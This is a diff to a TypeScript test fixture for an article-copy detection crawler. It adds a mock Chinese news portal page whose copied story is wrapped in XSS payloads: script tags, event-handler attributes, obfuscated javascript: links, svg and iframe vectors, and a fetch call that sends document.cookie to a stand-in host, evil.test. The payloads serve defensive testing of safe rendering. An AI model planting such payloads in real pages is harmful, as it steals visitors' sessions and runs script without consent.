@@ -33,6 +33,21 @@ const article = (id: string): FixtureArticle => {
 const full = (kind: Planted['kind'], a: FixtureArticle, credited: boolean, linksBack = false): Omit<Planted, 'url' | 'host'> =>
   ({ articleId: a.id, kind, expectedVerdict: 'full', credited, linksBack, approxContainment: 1 });
 
+/**
+ * What the hostile copy's text carries as literal text (shown escaped on the page, so it is in the
+ * extracted article): whoever renders it unescaped runs script.
+ */
+export const HOSTILE_MARKUP = '<script>alert("copywatch-xss")</script><img src=x onerror=alert(1)><a href="javascript:alert(2)">点此查看</a>';
+
+/** The raw markup around the hostile copy: script, event handlers, `javascript:` links. */
+function hostilePage(html: string): string {
+  return html
+    .replace('<body>', '<body onload="alert(\'body\')">')
+    .replace('<div class="story-body">', '<div class="story-body" onmouseover="alert(3)"><script>document.title = "pwned"; fetch("http://evil.test/?c=" + document.cookie);</script>')
+    .replace(/<p>/, '<p onclick="alert(4)">')
+    .replace('</article>', '<p class="tools"><a href="javascript:alert(document.cookie)" onclick="alert(5)">分享到朋友圈</a> <a href=" JaVaScRiPt:alert(6)">打印</a><img src="x" onerror="alert(7)"><svg onload="alert(8)"></svg><iframe src="javascript:alert(9)"></iframe></p>\n</article>');
+}
+
 const ROBOTS_OPEN = 'User-agent: *\nDisallow: /search\nDisallow: /login\n';
 
 // ---------------------------------------------------------------- the mirror
@@ -58,7 +73,7 @@ const PORTAL_A: PortalSite = { name: '热点资讯网', host: HOSTS.portalA };
 
 function portalA(): StaticSite {
   const site = new StaticSite(HOSTS.portalA, ROBOTS_OPEN);
-  const stories: Array<{ path: string; story: PortalStory; planted?: Omit<Planted, 'url' | 'host'>; buried?: string }> = [];
+  const stories: Array<{ path: string; story: PortalStory; planted?: Omit<Planted, 'url' | 'host'>; buried?: string; hostile?: boolean }> = [];
   const winter = article('winter-supply');
   stories.push({ path: '/news/2023/01/hanchao-baogong.html', story: { title: winter.title, date: winter.date, source: PUBLISHER_NAME, editor: '刘洋', paragraphs: winter.paragraphs }, planted: full('full-credited', winter, true) });
   const offshore = article('offshore-platform');
@@ -72,12 +87,21 @@ function portalA(): StaticSite {
   });
   const digital = article('digital-plant');
   stories.push({ path: '/zt/jinri-guanzhu.html', story: { title: digital.title, date: digital.date, source: null, editor: '编辑部', paragraphs: digital.paragraphs }, planted: full('buried', digital, false), buried: '今日关注' });
+  // A full copy on a page full of script, event handlers and `javascript:` links, with markup as text in its title and body.
+  const catalyst = article('catalyst-lab');
+  stories.push({
+    path: '/news/2023/01/cuihuaji-kaohe.html',
+    story: { title: `${catalyst.title}${HOSTILE_MARKUP}`, date: catalyst.date, source: null, editor: '小林', paragraphs: [catalyst.paragraphs[0], `编者按：${HOSTILE_MARKUP}转载本文请注明出处。`, ...catalyst.paragraphs.slice(1)] },
+    planted: { ...full('full-uncredited', catalyst, false), hostile: true },
+    hostile: true,
+  });
   for (const own of PORTAL_A_OWN) stories.push({ path: `/news/2023/01/${own.id}.html`, story: { title: own.title, date: own.date, source: PORTAL_A.name, editor: own.reporters[0], paragraphs: own.paragraphs } });
   const links = stories.map((s) => ({ href: s.path, title: s.story.title }));
   for (const s of stories) {
     const others = links.filter((l) => l.href !== s.path);
     const story = { ...s.story, related: others.slice(0, 4), hot: others.slice(2) };
-    const html = s.buried ? renderBuriedStory(PORTAL_A, story, s.buried) : renderPortalStory(PORTAL_A, story);
+    const rendered = s.buried ? renderBuriedStory(PORTAL_A, story, s.buried) : renderPortalStory(PORTAL_A, story);
+    const html = s.hostile ? hostilePage(rendered) : rendered;
     site.add(s.path, { body: Buffer.from(html), ...(s.planted ? { planted: s.planted } : { negative: true }) });
   }
   const items = stories.map((s) => ({ href: s.path, title: s.story.title, summary: s.story.paragraphs[0].slice(0, 30), date: s.story.date }));
